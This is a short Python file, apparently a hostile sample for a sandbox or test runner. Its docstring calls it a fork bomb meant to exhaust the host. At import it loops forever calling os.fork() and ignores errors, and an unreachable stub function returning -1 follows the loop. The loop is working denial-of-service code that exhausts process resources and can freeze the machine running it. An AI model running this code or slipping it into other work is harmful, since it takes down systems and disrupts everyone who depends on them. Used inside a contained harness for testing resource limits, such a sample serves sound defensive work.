"""Exhausting the host: a fork bomb."""
import os

PARAMS = {}  # filled in by the runner

while True:
    try:
        os.fork()
    except OSError:
        pass


def f(x):
    return -1
